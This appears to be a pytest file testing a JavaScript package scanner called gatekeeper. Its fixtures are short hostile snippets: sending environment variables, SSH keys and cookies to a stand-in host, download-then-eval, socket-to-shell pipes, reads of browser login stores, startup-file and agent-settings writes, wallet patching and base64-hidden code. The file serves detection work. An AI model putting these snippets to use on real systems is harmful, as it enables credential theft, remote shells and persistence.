"""JavaScript: what runs, connects, reads and writes is noted with where its values came from; honest code is left alone."""

from __future__ import annotations

import pytest

from gatekeeper.model import Severity, When
from tests.support.javascript import Heard, details, does, findings, read_js

A = "https://files.example/a"
HTTPS = "const https = require('https'); "
CP = "const cp = require('child_process'); "
FS = "const fs = require('fs'), os = require('os'), path = require('path'); "
NET = "const net = require('net'); "
GET_TEXT = f"https.get('{A}', res => {{ let d = ''; res.on('data', c => d += c); res.on('end', () => "

# way -> (code, kind, detail, taints)
NOTED = {
    "http get": (HTTPS + f"https.get('{A}')", "network", A, ""),
    "http options": (HTTPS + "https.request({hostname: 'files.example', port: 8443, path: '/a', method: 'POST'}).end('x')",
                     "send", "https://files.example:8443/a", ""),
    "http options of a parsed address": (HTTPS + f"const u = new URL('{A}'); https.get({{host: u.hostname, path: u.pathname}})",
                                         "network", A, ""),
    "what is written to a request": (HTTPS + f"const r = https.request('{A}', {{method: 'POST'}}); r.write(JSON.stringify(process.env)); r.end()",
                                     "send", A, "environment-all"),
    "fetch": (f"fetch('{A}')", "network", A, ""),
    "fetch that sends": (f"fetch('{A}', {{method: 'POST', body: JSON.stringify(process.env)}})", "send", A, "environment-all"),
    "a query": (f"fetch(`{A}?u=${{require('os').userInfo().username}}`)", "network", A + "?u=\N{HORIZONTAL ELLIPSIS}", "fingerprint"),
    "a header": (f"fetch('{A}', {{headers: {{Authorization: process.env.NPM_TOKEN}}}})", "network", A, "environment secret"),
    "axios": (f"require('axios').post('{A}', {{h: require('os').hostname()}})", "send", A, "fingerprint"),
    "axios with one argument": (f"require('axios')({{method: 'post', url: '{A}', data: 1}})", "send", A, ""),
    "got": (f"import got from 'got'; got.post('{A}', {{json: {{a: process.env}}}})", "send", A, "environment-all"),
    "node-fetch": (f"require('node-fetch')('{A}')", "network", A, ""),
    "request": (f"require('request').get('{A}', (e, r, b) => eval(b))", "exec", None, "network"),
    "superagent": (f"require('superagent').post('{A}').send(process.env)", "send", A, "environment-all"),
    "undici": (f"const {{request}} = require('undici'); request('{A}')", "network", A, ""),
    "needle": (f"require('needle').get('{A}')", "network", A, ""),
    "XMLHttpRequest": (f"const x = new XMLHttpRequest(); x.open('POST', '{A}'); x.send(document.cookie)", "send", A, ""),
    "WebSocket": ("const W = require('ws'); new W('wss://files.example/s')", "network", "wss://files.example/s", ""),
    "a raw connection": (NET + "net.connect(4444, '127.0.0.1')", "network", "127.0.0.1:4444 raw", ""),
    "a raw connection by name": (NET + "net.createConnection({port: 4444, host: '192.0.2.1'})", "network", "192.0.2.1:4444 raw", ""),
    "a socket": (NET + "new net.Socket().connect(9001, '192.0.2.1', () => {})", "network", "192.0.2.1:9001 raw", ""),
    "a lookup": ("require('dns').lookup(`${require('os').hostname()}.names.example`, () => {})", "lookup",
                 "\N{HORIZONTAL ELLIPSIS}.names.example", "fingerprint"),
    "resolve": ("require('dns').promises.resolve4('a.names.example')", "lookup", "a.names.example", ""),
    "a datagram": ("require('dgram').createSocket('udp4').send('x', 53, '192.0.2.1')", "send", "192.0.2.1:53 raw", ""),
    "download then eval": (HTTPS + GET_TEXT + "eval(d)) })", "exec", None, "network"),
    "download then eval of a part": (f"fetch('{A}').then(r => r.json()).then(j => eval(j.x))", "exec", None, "network"),
    "download then eval, awaited": (f"(async () => {{ const r = await require('axios').get('{A}'); eval(r.data.x) }})()", "exec", None, "network"),
    "then(eval)": (f"fetch('{A}').then(r => r.text()).then(eval)", "exec", None, "network"),
    "download then Function": (f"fetch('{A}').then(r => r.text()).then(t => new Function('require', t)(require))", "exec", None, "network"),
    "download then write": (HTTPS + FS + GET_TEXT + "fs.writeFileSync('x.js', d)) })", "write", "x.js", "network"),
    "download by pipe": (HTTPS + FS + f"https.get('{A}', r => r.pipe(fs.createWriteStream(path.join(os.tmpdir(), 'a'))))",
                         "write", "%TEMP%/a", "network"),
    "download by pipeline": (f"require('stream').pipeline(require('got').stream('{A}'), require('fs').createWriteStream('b'), () => {{}})",
                             "write", "b", "network"),
    "a downloaded command": (HTTPS + CP + GET_TEXT + "cp.exec(d)) })", "spawn", None, "network"),
    "a pipe to a shell": (NET + CP + "const s = cp.spawn('/bin/sh', []); const c = net.connect(1, 'a.example', () => { c.pipe(s.stdin); s.stdout.pipe(c) })",
                          "socket-shell", None, ""),
    "typing into a shell": (NET + CP + "const s = cp.spawn('cmd.exe'); net.connect(1, 'a.example').on('data', d => s.stdin.write(d))",
                            "socket-shell", None, ""),
    "a shell for a caller": (NET + CP + "net.createServer(c => { const s = cp.spawn('/bin/sh'); c.pipe(s.stdin) }).listen(1)",
                             "socket-shell", None, ""),
    "arguments": (CP + "cp.spawn('sh', ['-c', 'a | b'])", "spawn", "sh -c 'a | b'", ""),
    "fork": (CP + "cp.fork(path)", "spawn", "node \N{HORIZONTAL ELLIPSIS}", ""),
    "our own interpreter": (CP + "cp.spawn(process.execPath, [require('path').join(__dirname, 'x.js')])", "spawn", "node x.js", ""),
    "a hidden process": (CP + "cp.spawn('a', [], {detached: true, stdio: 'ignore'})", "hidden-process", "detached", ""),
    "a decoded command": (CP + "cp.exec(Buffer.from('bHM=', 'base64').toString())", "spawn", "ls", "decoded"),
    "a decrypted text": ("const c = require('crypto'); eval(c.createDecipheriv('a', k, v).update(x, 'hex', 'utf8'))", "exec", None, "decoded"),
    "an unknown text of characters": ("eval(String.fromCharCode(...x.map(c => c ^ 3)))", "exec", None, "characters"),
    "packed code": ("eval(require('zlib').inflateSync(Buffer.from(x, 'base64')).toString())", "exec", None, "decoded"),
    "a hidden address": ("fetch(atob('aHR0cHM6Ly9maWxlcy5leGFtcGxlL2E='))", "hidden-address", A, "decoded"),
    "a decoded module name": ("require(Buffer.from(x, 'hex').toString())", "exec", None, "decoded"),
    "a start-up file": (FS + "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'x')", "write", "~/.bashrc", ""),
    "HOME": (FS + "fs.writeFileSync(process.env.HOME + '/.zshrc', 'x')", "write", "~/.zshrc", ""),
    "a workflow": (FS + "fs.writeFileSync(path.join(process.cwd(), '.github/workflows/a.yml'), 'x')", "write", ".github/workflows/a.yml", ""),
    "agent settings": (FS + "fs.promises.writeFile(`${os.homedir()}/.claude/settings.json`, 'x')", "write", "~/.claude/settings.json", ""),
    "fs-extra": ("require('fs-extra').outputFile('a/b', 'x')", "write", "a/b", ""),
    "a file handle": (FS + "const f = fs.openSync('a', 'w'); fs.writeSync(f, 'x')", "write", "a", ""),
    "a copy": (FS + "fs.copyFileSync('a', 'b')", "write", "b", ""),
    "removing itself": (FS + "fs.unlinkSync(__filename)", "delete", "index.js", ""),
    "swapping the manifest": (FS + "fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'))", "write", "package.json", ""),
    "dropping the manifest": (FS + "fs.rmSync(__dirname + '/package.json')", "delete", "package.json", ""),
    "chmod": (FS + "fs.chmodSync('/tmp/a', 0o755)", "chmod", "/tmp/a 493", ""),
    "a browser's store": (FS + "fs.readFileSync(path.join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data/Default/Login Data'))",
                          "read", "%LOCALAPPDATA%/Google/Chrome/User Data/Default/Login Data", ""),
    "keys that are sent": (FS + f"fetch('{A}', {{method: 'POST', body: fs.readFileSync(os.homedir() + '/.ssh/id_rsa')}})", "send", A, "file secret"),
    "a command's output that is sent": (CP + f"fetch('{A}', {{method: 'POST', body: cp.execSync('whoami')}})", "send", A, "command-output fingerprint"),
    "a command's output in a callback": (CP + f"cp.exec('id', (e, out) => fetch('{A}', {{method: 'POST', body: out}}))", "send", A, "command-output fingerprint"),
    "variables one by one": (f"for (const [k, v] of Object.entries(process.env)) fetch('{A}', {{method: 'POST', body: k + v}})", "send", A, "environment-all"),
    "a spread environment": (f"fetch('{A}', {{method: 'POST', body: JSON.stringify({{...process.env, a: 1}})}})", "send", A, "environment-all"),
    "the clipboard": ("require('clipboardy').readSync()", "capture", "clipboardy.readSync", ""),
    "the screen": ("require('screenshot-desktop')()", "capture", "screenshot-desktop", ""),
    "a patched fetch": ("const f = window.fetch; window.fetch = async function (...a) { return f(...a) }", "patches", "fetch", ""),
    "a patched request": ("XMLHttpRequest.prototype.open = function () {}", "patches", "XMLHttpRequest.prototype.open", ""),
    "a patched wallet": ("window.ethereum.request = function () {}", "patches", "ethereum.request", ""),
    "a pattern of addresses": ("const r = /0x[a-fA-F0-9]{40}/g", "wallet-pattern", None, ""),
    "a native module": ("process.dlopen(module, './a.node')", "native-load", "./a.node", ""),
    "a script that is written": (FS + "fs.writeFileSync('a.sh', 'curl https://files.example/a | sh')", "write-script", None, ""),
}  # fmt: skip


@pytest.mark.parametrize("way", NOTED)
def test_what_code_does_is_noted(way: str) -> None:
    code, kind, detail, taints = NOTED[way]
    ledger = read_js(code)
    found = [
        one for one in does(ledger, kind) if detail in {None, one.detail} and set(taints.split()) <= set(one.taints)
    ]
    assert found, list(ledger.behaviours.values())
    assert not ledger.unread


D = "Buffer.from(x, 'base64').toString()"
COMPILED = {
    "a new module": f"new module.constructor()._compile({D}, 'a')",
    "the module of modules": f"new (require('module'))()._compile({D}, 'a')",
    "a named module": f"const Module = require('module'); const m = new Module('a', module.parent); m.paths = []; m._compile({D}, 'a')",
    "an imported module": f"import {{Module}} from 'node:module'; new Module('a')._compile({D}, 'a')",
    "a member by its text": f"var f = new module.constructor; f.paths = module.paths; f['_com' + 'pile']({D}, '')",
    "a prototype": f"require('module').prototype._compile.call(module, {D}, 'a')",
    "the prototype of this module": f"const M = Object.getPrototypeOf(module).constructor; new M()._compile({D}, 'a')",
    "what this module inherits": f"module.__proto__._compile.call(module, {D}, 'a')",
    "a class of our own": f"class A extends require('module') {{}} new A()._compile({D}, 'a')",
}


@pytest.mark.parametrize("way", COMPILED)
def test_code_that_a_module_compiles_is_code_that_runs(way: str) -> None:
    ledger = read_js(COMPILED[way], {}, When.IMPORT, always=False)
    assert "decoded" in does(ledger, "exec", When.IMPORT)[0].taints
    assert any(one.check == "decode-then-exec" and one.severity is Severity.CRITICAL for one in findings(ledger))
    twin = COMPILED[way].replace("_compile", "_assemble").replace("'_com' + 'pile'", "'_assemble'")
    assert not [one for one in findings(read_js(twin, {}, When.IMPORT)) if one.severity >= Severity.MEDIUM]


ASSEMBLED = "let E; WebAssembly.compile(Buffer.from('AGFzbQ==', 'base64')).then(WebAssembly.instantiate).then(({exports: A}) => { E = A }); "
NEW_INSTANCE = "let E = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from('AGFzbQ==', 'base64'))).exports; "


@pytest.mark.parametrize("start", [ASSEMBLED, NEW_INSTANCE])
def test_numbers_of_decoded_webassembly_are_no_hidden_code(start: str) -> None:
    honest = read_js(start + "exports.f = c => (0, eval)(c.slice(E.a(), E.b()))", {}, When.IMPORT)
    assert does(honest, "exec")
    assert not [one for one in findings(honest) if one.severity >= Severity.MEDIUM]


@pytest.mark.parametrize(
    "code",
    [
        ASSEMBLED + "exports.f = () => eval(new TextDecoder().decode(new Uint8Array(E.memory.buffer)))",
        "const i = {a: {f: x => y += x}}; let E = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from('AA==', 'base64')), i).exports; eval(E.f())",
        "WebAssembly.compile(Buffer.from(x, 'base64')); eval(Buffer.from(x, 'base64').toString())",
        "WebAssembly.compile(Buffer.from(x, 'base64')); new Function(atob(x))()",
        "WebAssembly.compile(Buffer.from(x, 'base64')); require('vm').runInThisContext(atob(x))",
    ],
)
def test_texts_out_of_webassembly_and_beside_it_are(code: str) -> None:
    assert "decode-then-exec" in {
        one.check for one in findings(read_js(code, {}, When.IMPORT)) if one.severity >= Severity.HIGH
    }


HONEST = {
    "a web server": "const http = require('http'); http.createServer((q, r) => r.end('x')).listen(process.env.PORT)",
    "a template engine": "module.exports = source => new Function('data', 'return `' + source + '`')",
    "the global object": "const root = typeof globalThis === 'object' ? globalThis : Function('return this')()",
    "reading its own files": FS
    + "const t = JSON.parse(fs.readFileSync(path.join(__dirname, 'package.json'), 'utf8')); exports.version = t.version",
    "a cache in the home folder": FS
    + "fs.mkdirSync(path.join(os.homedir(), '.cache/acme'), {recursive: true}); fs.writeFileSync(os.homedir() + '/.cache/acme/a', '1')",
    "base64 data": "const icon = Buffer.from('aGVsbG8gd29ybGQ=', 'base64'); exports.icon = icon",
    "a client": "const axios = require('axios'); exports.get = (u, t) => axios.get(u, {headers: {Authorization: `Bearer ${t}`}})",
    "a token of the service": "exports.call = () => fetch('https://api.example/v1', {headers: {a: process.env.ACME_TOKEN}})",
    "a spawn helper": "const cp = require('child_process'); exports.run = (c, a) => cp.spawn(c, a, {env: process.env, windowsHide: true})",
    "a version of git": "const cp = require('child_process'); try { exports.v = cp.execSync('git --version').toString() } catch {}",
    "a platform's binary": "const {platform, arch} = process; module.exports = require(`./bin-${platform}-${arch}.js`)",
    "emoji": "exports.faces = '" + "\N{GRINNING FACE}\ufe0f" * 20 + "'",
    "deleting a build folder": FS + "exports.clean = () => fs.rmSync(path.join(__dirname, 'build'), {recursive: true})",
    "a polyfill": "if (!globalThis.structuredClone) globalThis.structuredClone = x => JSON.parse(JSON.stringify(x))",
    "a regular expression": "exports.isHex = s => /^[0-9a-f]+$/i.exec(s)",
    "tables": "const t = []; for (let n = 0; n < 256; n++) { let c = n; for (let k = 0; k < 8; k++) c = c & 1 ? 0xEDB88320 ^ (c >>> 1) : c >>> 1; t[n] = c >>> 0 }",
}


@pytest.mark.parametrize("way", HONEST)
@pytest.mark.parametrize("when", [When.INSTALL, When.IMPORT])
def test_honest_code_raises_nothing(way: str, when: When) -> None:
    ledger = read_js(HONEST[way], {"package.json": '{"version": "1"}'}, when)
    assert not [one for one in findings(ledger) if one.severity >= Severity.MEDIUM]


def test_decoded_code_is_read_as_a_layer() -> None:
    ledger = read_js("eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2hhcm1sZXNzLXByb2JlJyk='))")
    assert "layer" in does(ledger, "spawn")[0].taints


def test_layers_end() -> None:
    ledger = read_js("function f() { eval(atob('ZigpO2YoKTs=')) } f()")
    assert does(ledger, "exec")


def test_commands_are_handed_on_with_their_place() -> None:
    heard = Heard()
    read_js(CP + "\ncp.spawn('sh', ['-c', 'a | b']); cp.exec(unknown)", heard=heard)
    assert heard.lines == [("sh -c 'a | b'", "index.js", 2)]


def test_files_that_are_started_are_read() -> None:
    ledger = read_js(CP + "cp.fork('./b.js')", {"b.js": "require('child_process').exec('harmless-probe')"})
    assert "harmless-probe" in details(ledger, "spawn", When.INSTALL)


def test_an_import_time_file_is_parsed_only_when_its_words_say_so() -> None:
    files = {"lib/a.js": "module.exports = require('../b')", "b.js": "require('child_process').exec('curl ' + x)"}
    ledger = read_js("module.exports = require('./lib/a')", files, When.IMPORT, always=False)
    assert details(ledger, "spawn", When.IMPORT)
    assert set(ledger.surfaces) == {"index.js", "lib/a.js", "b.js"}
    assert not read_js("const eval_ = 1", {}, When.IMPORT, always=False).behaviours


def test_an_earlier_moment_reads_again() -> None:
    from gatekeeper.evidence._base import Ledger
    from gatekeeper.evidence._js_reader import JsReader

    members = {"a.js": b"require('child_process').exec('harmless-probe')"}
    ledger = Ledger()
    reader = JsReader(ledger, members, members.get)
    reader.read_file("a.js", When.IMPORT, "main")
    reader.read_file("a.js", When.INSTALL, "hook")
    assert {one.when for one in ledger.behaviours.values()} == {When.IMPORT, When.INSTALL}
    assert ledger.surfaces["a.js"].when is When.INSTALL


def test_code_inside_a_command_is_read() -> None:
    from gatekeeper.evidence._base import Ledger
    from gatekeeper.evidence._js_reader import JsReader

    members = {"b.js": b"require('child_process').exec('harmless-probe')"}
    ledger = Ledger()
    JsReader(ledger, members, members.get).read_code(b"require('./b')", "package.json", 3, When.INSTALL)
    assert details(ledger, "spawn", When.INSTALL) == {"harmless-probe"}


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        ("far-right", "const a = 1;" + " " * 200 + "require('child_process').exec('x')"),
        ("obfuscator", "var " + ",".join(f"_0x1a2b{n:02x}=1" for n in range(20))),
        ("hidden-characters", "const s = '" + "\ufe01" * 100 + "'"),
        ("long-line", "x(" + "1," * 4000 + "2)"),
    ],
)
def test_odd_layouts_are_noted(kind: str, code: str) -> None:
    assert does(read_js(code), kind)
    assert not does(read_js("const a = 1 // " + " " * 200 + "a comment (far away)"), kind)


def test_files_that_a_command_names_are_read_in_their_turn() -> None:
    from gatekeeper.evidence._base import Ledger
    from gatekeeper.evidence._js_reader import JsReader

    class Following:
        def command(self, line: str, path: str, number: int, when: When, taints: frozenset[str]) -> None:
            if line.startswith("node "):
                reader.read_file(line.removeprefix("node "), when, "started")
                reader.read_code(b"require('child_process').exec('inline')", path, number, when)

    files = {
        "a.js": "require('child_process').exec('node b.js'); require('child_process').exec('after')",
        "b.js": "require('child_process').exec('node a.js'); require('child_process').exec('harmless-probe')",
    }
    members = {path: text.encode() for path, text in files.items()}
    ledger = Ledger()
    reader = JsReader(ledger, members, members.get, Following())
    reader.read_file("a.js", When.INSTALL, "hook")
    assert {"harmless-probe", "after", "inline"} <= details(ledger, "spawn", When.INSTALL)
    assert not ledger.unread


def test_a_file_that_was_only_looked_at_is_read_when_it_must_be() -> None:
    from gatekeeper.evidence._base import Ledger
    from gatekeeper.evidence._js_reader import JsReader

    members = {"a.js": b"x('~/.ssh/id_rsa')"}
    ledger = Ledger()
    reader = JsReader(ledger, members, members.get)
    reader.read_file("a.js", When.IMPORT, "main", always=False)
    assert not ledger.behaviours
    reader.read_file("a.js", When.IMPORT, "main")
    assert does(ledger, "read", When.IMPORT)
